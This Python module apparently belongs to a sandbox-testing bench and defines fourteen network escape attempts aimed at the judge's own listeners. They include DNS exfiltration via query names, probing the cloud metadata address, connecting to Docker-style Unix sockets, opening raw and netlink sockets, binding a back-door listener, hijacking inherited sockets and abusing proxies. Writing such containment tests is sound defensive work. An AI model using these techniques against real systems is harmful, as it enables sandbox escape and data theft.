"""Attacks on the network: each tries to reach a listener of the judge's, or to open a door of its own.

Every address is the judge's, except for one that no packet is sent to.
"""

from __future__ import annotations

import errno
import os
import socket
import struct
from contextlib import suppress

from paddock.bench.hostile.attacks.attempt import Hostile, attack, first_that_works

HELLO = b"hello from a hostile environment"
_PATIENCE_S = 2.0


def _greet(there: socket.socket) -> str:
    with suppress(OSError):  # the other side may hang up at once: it was reached all the same
        there.sendall(HELLO)
    return "connected"


@attack("N01", "connects to a local service", "listener", {"host": "127.0.0.1"})
@attack("N02", "connects over IPv6", "listener", {"host": "::1", "port": "$port6"})
@attack("N03", "connects to a machine's address", "listener", {"host": "$lan", "port": "$lan_port"})
def connect(host: str, port: int) -> str:
    with socket.create_connection((host, port), _PATIENCE_S) as connection:
        return _greet(connection)


@attack("N04", "looks for the cloud's metadata", "claim")
def find_route() -> str:
    """Asks for the way to the cloud's metadata service. No packet is sent: it may really be there."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.connect(("169.254.169.254", 80))
        return f"reached: from {there.getsockname()[0]}"


@attack("N05", "carries data out by names", "listener")
def ask_for_name(host: str, datagram_port: int) -> str:
    """Asks the judge's name server for a name whose letters are the loot."""
    labels = b"".join(bytes([len(one)]) + one for one in (b"stolen", b"example", b"com"))
    query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.sendto(query, (host, datagram_port))
    return "asked"


@attack("N06", "connects to an abstract socket", "listener", {"path": "$abstract", "abstract": 1})
@attack("N07", "connects to a socket file", "listener", {"path": "$unix", "abstract": 0})
def connect_unix(path: str, abstract: int) -> str:
    """Connects to a Unix socket by path, as to Docker's, or by an abstract name."""
    with socket.socket(socket.AF_UNIX) as there:
        there.settimeout(_PATIENCE_S)
        there.connect(path.replace("@", "\0", 1) if abstract else path)
        return _greet(there)


@attack("N08", "opens a raw socket", "claim", {"kind": [2, 3, 1]}, control_root=True)
@attack("N09", "opens a packet socket", "claim", {"kind": [17, 3, 768]}, control_root=True)
@attack("N10", "opens a vsock", "claim", {"kind": [40, 1, 0]})
@attack("N11", "opens a netlink socket", "claim", {"kind": [16, 3, 0]})
def open_socket(kind: list[int]) -> str:
    """Opens a socket of a family that only drivers and spies use."""
    try:
        with socket.socket(*kind):
            return "reached: a socket"
    except OSError as error:
        # Not here: the kernel was asked, and has no such family, which says nothing of a wall.
        if error.errno in (errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT):
            return f"reached: {errno.errorcode[error.errno]}"
        raise


@attack("N12", "opens a door to the host", "listener", {"free_port": "$free_port"})
class Listen(Hostile):
    """Waits for callers on ``free_port``: a back door."""

    door: socket.socket | None = None

    def attempt(self) -> str:
        if self.door is None:
            self.door = socket.socket()
            self.door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            self.door.bind(("127.0.0.1", self.arguments["free_port"]))
            self.door.listen()
        return "listens"

    def close(self) -> None:
        if self.door is not None:
            self.door.close()


@attack("N13", "turns inherited sockets around", "listener")
def reuse_sockets(host: str, port: int) -> str:
    """Makes every inherited socket forget its peer and connects it to the judge's listener."""
    for fd in range(3, 64):
        with suppress(OSError):
            sock = socket.socket(fileno=os.dup(fd))
            if sock.family not in (socket.AF_INET, socket.AF_INET6):
                sock.close()
                continue
            sock.connect((host, port))
            return "connected"
    with socket.create_connection((host, port), _PATIENCE_S) as connection:
        return _greet(connection)


@attack(
    "N14",
    "asks the proxy for another host",
    "listener",
    policy={"hosts": ["example.com:443"]},
    expected={"denied", "contained", "refused"},
)
def ask_for_proxy(host: str, port: int) -> str:
    """Speaks HTTP to what may be a proxy: the variables that name one, then the usual ports."""
    request = f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    ports = [int(text.rsplit(":", 1)[1]) for text in map(os.environ.get, ("https_proxy", "HTTPS_PROXY")) if text]

    def ask(there: int) -> str:
        with socket.create_connection(("127.0.0.1", there), _PATIENCE_S) as proxy:
            proxy.sendall(request)
            proxy.settimeout(0.2)
            with suppress(OSError):
                proxy.recv(64)
        if there != port:
            raise OSError(errno.ECONNREFUSED, "no proxy")
        return "connected"

    return first_that_works(ask, (*ports, 3128, 8080, port))
